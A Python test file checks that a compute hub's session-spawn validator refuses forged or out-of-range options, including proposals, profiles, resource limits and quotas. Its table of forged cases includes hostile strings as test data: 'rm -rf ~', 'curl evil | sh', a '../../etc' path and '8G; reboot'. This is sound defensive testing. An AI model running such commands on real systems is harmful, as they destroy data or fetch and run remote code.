"""Spawn options are untrusted: every option is checked against the person's proposals,
the profile and the quota. Pure tests of daas_hub.options (no hub), table-driven.
"""

from __future__ import annotations

import pytest

from daas_hub.model import Account, Member, MemberRole, Proposal, ProposalState
from daas_hub.options import NO_PROPOSAL, OptionError, SessionRequest, SpawnContext, validate_options
from daas_hub.profiles import load_catalogue
from daas_hub.quotas import DEFAULT_ROLE_QUOTAS, GIB, Quota, quota_role

CATALOGUE = load_catalogue()  # the packaged six profiles


def proposal(pid, instrument, user="alice", state=ProposalState.ACTIVE):
    return Proposal(pid, f"title {pid}", instrument, "DEMO", state=state, members=(Member(user, MemberRole.PI),))


PROPOSALS = (
    proposal("MX-1001", "ID11"),       # diffraction beamline
    proposal("IH-5005", "ID21"),       # spectroscopy beamline
    proposal("HC-3003", "ID11", state=ProposalState.ARCHIVED),
    proposal("XX-9999", "ID11", user="mallory"),  # someone else's
)


def ctx(roles=(), others=(), backends=("slurm", "local"), proposal_quotas=None, proposals=PROPOSALS):
    account = Account("alice", roles=frozenset(roles))
    role = quota_role(roles)
    return SpawnContext(
        account=account, proposals=proposals, catalogue=CATALOGUE, backends=backends,
        quota=Quota.from_dict(DEFAULT_ROLE_QUOTAS[role]), proposal_quotas=proposal_quotas or {},
        others=tuple(others),
    )


GOOD = {"proposal": "MX-1001", "profile": "diffraction", "backend": "slurm",
        "cpu": 4, "memory": 8, "gpu": 0, "hours": 4}


def test_defaults_give_a_one_click_start():
    r = validate_options({}, ctx())
    assert r == SessionRequest("MX-1001", "python", "slurm", 2, 4 * GIB, 0, 4.0)


def test_form_lists_and_api_scalars_give_the_same_request():
    form = {k: [str(v)] for k, v in GOOD.items()}
    assert validate_options(form, ctx()) == validate_options(GOOD, ctx())
    assert validate_options(GOOD, ctx()) == SessionRequest("MX-1001", "diffraction", "slurm", 4, 8 * GIB, 0, 4.0)


def test_canonical_options_round_trip():
    r = validate_options(GOOD, ctx())
    assert validate_options(r.to_options(), ctx()) == r


def test_staff_may_start_without_proposal_users_may_not():
    r = validate_options({"proposal": NO_PROPOSAL, "profile": "tomography"}, ctx(roles=("staff",)))
    assert r.proposal is None and r.profile == "tomography"  # no instrument: every profile
    with pytest.raises(OptionError, match="proposal"):
        validate_options({"proposal": NO_PROPOSAL}, ctx())


def test_profiles_follow_the_proposals_instrument():
    c = ctx()
    assert [p.slug for p in c.profiles_for("MX-1001")] == ["python", "diffraction"]
    assert [p.slug for p in c.profiles_for("IH-5005")] == ["python", "spectroscopy"]


def test_local_backend_offered_only_where_the_profile_lists_it():
    c = ctx(backends=("local", "slurm"))
    assert c.backends_for(CATALOGUE.get("tomography")) == ["slurm"]


def _with(**changes):
    return {**GOOD, **changes}


def _busy(n=1, **kw):
    base = dict(proposal="IH-5005", profile="python", backend="slurm", cpu=2, memory=4 * GIB, gpu=0, hours=4)
    return [SessionRequest(**{**base, **kw, "profile": ["python", "spectroscopy"][i % 2]}) for i in range(n)]


# (case id, raw options, context kwargs, option named in the message, words in the message)
FORGED = [
    ("unknown-key-cmd", _with(cmd="rm -rf ~"), {}, "cmd", "unknown option"),
    ("unknown-key-partition", _with(partition="admin"), {}, "partition", "allowed options"),
    ("unknown-key-prologue", _with(prologue="curl evil | sh"), {}, "prologue", "unknown option"),
    ("someone-elses-proposal", _with(proposal="XX-9999"), {}, "proposal", "not one of your active proposals"),
    ("archived-proposal", _with(proposal="HC-3003"), {}, "proposal", "MX-1001, IH-5005"),
    ("made-up-proposal", _with(proposal="../../etc"), {}, "proposal", "not one of your"),
    ("no-proposal-for-user", _with(proposal=NO_PROPOSAL), {}, "proposal", "allowed: MX-1001, IH-5005"),
    ("profile-wrong-instrument", _with(profile="spectroscopy"), {}, "profile", "allowed: python, diffraction"),
    ("profile-not-in-catalogue", _with(profile="bitcoin"), {}, "profile", "not offered"),
    ("backend-unknown", _with(backend="kubernetes"), {}, "backend", "allowed: slurm, local"),
    ("backend-not-enabled", _with(backend="local"), {"backends": ("slurm",)}, "backend", "allowed: slurm"),
    ("cpu-too-many", _with(cpu=33), {}, "cpu", "allowed: 1 to 32 CPUs"),
    ("cpu-zero", _with(cpu=0), {}, "cpu", "allowed: 1 to 32"),
    ("cpu-negative", _with(cpu=-4), {}, "cpu", "out of range"),
    ("cpu-fraction", _with(cpu=1.5), {}, "cpu", "not a whole number"),
    ("cpu-text", _with(cpu="four"), {}, "cpu", "not a number"),
    ("cpu-nan", _with(cpu="nan"), {}, "cpu", "not a number"),
    ("cpu-inf", _with(cpu="inf"), {}, "cpu", "not a number"),
    ("cpu-bool", _with(cpu=True), {}, "cpu", "single value"),
    ("cpu-list-of-two", _with(cpu=["2", "64"]), {}, "cpu", "expected one value"),
    ("cpu-dict", _with(cpu={"$gt": 1}), {}, "cpu", "single value"),
    ("memory-too-much", _with(memory=129), {}, "memory", "allowed: 0.5 to 128 GiB"),
    ("memory-shell", _with(memory="8G; reboot"), {}, "memory", "not a number"),
    ("gpu-not-allowed", _with(proposal="IH-5005", profile="spectroscopy", gpu=1), {}, "gpu", "allowed: 0 to 0 GPUs"),
    ("gpu-too-many", _with(gpu=2), {}, "gpu", "allowed: 0 to 1 GPUs"),
    ("hours-too-long", _with(hours=13), {}, "hours", "allowed: 0.25 to 12 hours"),
    ("hours-zero", _with(hours=0), {}, "hours", "out of range"),
    ("hours-exponent", _with(hours="1e9"), {}, "hours", "out of range"),
    ("profile-very-long", _with(profile="x" * 5000), {}, "profile", "longer than 64"),
    # 400-digit integers (JSON allows them): refused, never an OverflowError (a 500)
    ("cpu-400-digits", _with(cpu=int("9" * 400)), {}, "cpu", "the number is out of range; allowed: 1 to 32"),
    ("memory-400-digits", _with(memory=int("9" * 400)), {}, "memory", "out of range"),
    ("gpu-400-digits", _with(gpu=-int("9" * 400)), {}, "gpu", "out of range"),
    ("hours-400-digits", _with(hours=int("9" * 400)), {}, "hours", "out of range"),
    ("hours-400-digit-text", _with(hours="9" * 400), {}, "hours", "inf is not a number"),
    ("proposal-5000-digits", _with(proposal=10**5000), {}, "proposal", "got a very large number"),
    ("file-upload", _with(profile=[b"python"]), {}, "profile", "file uploads"),
    ("quota-sessions", GOOD, {"others": _busy(2)}, "sessions", "allows 2 session(s) at once"),
    ("quota-cpu", _with(cpu=16), {"others": _busy(1, cpu=4)}, "cpu", "at most 12 CPU"),
    ("quota-gpu", _with(gpu=1), {"others": _busy(1, gpu=1)}, "gpu", "at most 0 GPU"),
    ("quota-training-memory", _with(memory=16), {"roles": ("training",)}, "memory", "at most 8 GiB"),
    ("same-proposal-and-profile", GOOD, {"others": [SessionRequest("MX-1001", "diffraction", "local", 1, GIB, 0, 1)]},
     "profile", "already have a session"),
    ("proposal-quota", GOOD, {"proposal_quotas": {"MX-1001": Quota(1, 2, 8 * GIB, 0, 8)}}, "cpu",
     "the quota of proposal MX-1001"),
]


@pytest.mark.parametrize(("raw", "kwargs", "option", "words"), [c[1:] for c in FORGED], ids=[c[0] for c in FORGED])
def test_forged_or_out_of_range_options_are_refused(raw, kwargs, option, words):
    with pytest.raises(OptionError) as info:
        validate_options(raw, ctx(**kwargs))
    assert info.value.option == option
    assert str(info.value).startswith(f"{option}: ")
    assert words in str(info.value)


def test_not_a_dict_is_refused():
    with pytest.raises(OptionError, match="expected a set of named options"):
        validate_options(["proposal", "MX-1001"], ctx())


def test_at_least_twenty_forged_cases():
    assert len(FORGED) >= 20


def test_quota_from_settings_names_the_bad_key():
    with pytest.raises(ValueError, match="role_quotas.user: unknown key"):
        Quota.from_dict({"cpus": 4}, fallback=Quota(1, 1, 1, 0, 1), where="role_quotas.user")
    with pytest.raises(ValueError, match="memory = 'lots' is not a number or size"):
        Quota.from_dict({"memory": "lots"}, fallback=Quota(1, 1, 1, 0, 1))


# -- stored requests read back (SessionRequest.from_options)
def test_stored_request_round_trips():
    r = validate_options(GOOD, ctx())
    assert SessionRequest.from_options(r.to_options()) == r
    staff = validate_options({"proposal": NO_PROPOSAL, "profile": "tomography"}, ctx(roles=("staff",)))
    assert SessionRequest.from_options(staff.to_options()).proposal is None


@pytest.mark.parametrize("stored", [
    {}, [], "MX-1001", {**GOOD, "cpu": "four"}, {k: v for k, v in GOOD.items() if k != "hours"},
    {**GOOD, "memory": None},
], ids=["empty", "list", "text", "bad-cpu", "missing-hours", "memory-none"])
def test_malformed_stored_request_is_a_value_error(stored):
    with pytest.raises(ValueError):
        SessionRequest.from_options(stored)


# -- the site's quota settings, checked once (what DaasSpawner's @validate runs)
from daas_hub.quotas import check_proposal_quotas, check_role_quotas, ledger, quota_table  # noqa: E402

BAD_QUOTAS = [
    ("unknown-role", {"admins": {"cpu": 4}}, "DaasSpawner.role_quotas.admins: unknown role; roles: staff"),
    ("typo-key", {"user": {"cpus": 4}}, "DaasSpawner.role_quotas.user.cpus: unknown key; use sessions, cpu"),
    ("bad-memory", {"user": {"memory": "lots"}}, "DaasSpawner.role_quotas.user.memory = 'lots' is not a number"),
    ("negative", {"staff": {"gpu": -1}}, "DaasSpawner.role_quotas.staff.gpu must not be negative"),
    ("not-a-mapping", {"user": 4}, "DaasSpawner.role_quotas.user must be a mapping"),
    ("bool", {"user": {"sessions": True}}, "DaasSpawner.role_quotas.user.sessions = True is not a number"),
]


@pytest.mark.parametrize(("written", "message"), [c[1:] for c in BAD_QUOTAS], ids=[c[0] for c in BAD_QUOTAS])
def test_role_quota_typos_name_the_setting(written, message):
    with pytest.raises(ValueError) as info:
        check_role_quotas(written)
    assert str(info.value).startswith(message), str(info.value)


def test_proposal_quota_typos_name_the_setting():
    with pytest.raises(ValueError, match=r"^DaasSpawner.proposal_quotas.MX-1001.gpus: unknown key"):
        check_proposal_quotas({"MX-1001": {"gpus": 1}})


def test_quota_table_fills_in_built_in_values_and_the_role_quota():
    table = quota_table({"user": {"cpu": 8}}, {"MX-1001": {"sessions": 1}})
    assert table.for_roles(()) == Quota(2, 8, 64 * GIB, 1, 24)
    assert table.for_roles(("staff",)) == Quota.from_dict(DEFAULT_ROLE_QUOTAS["staff"])
    assert table.proposal_quotas(()) == {"MX-1001": Quota(1, 8, 64 * GIB, 1, 24)}
    assert table.proposal_quotas(("staff",))["MX-1001"] == Quota(1, 64, 256 * GIB, 4, 96)


def test_ledger_sums_live_sessions_and_never_goes_negative():
    book = ledger(Quota(2, 4, 8 * GIB, 0, 8), _busy(3, cpu=2))
    assert (book.used.sessions, book.used.cpu, book.used.memory) == (3, 6, 12 * GIB)
    assert (book.left.sessions, book.left.cpu, book.left.memory, book.left.hours) == (0, 0, 0, 0)
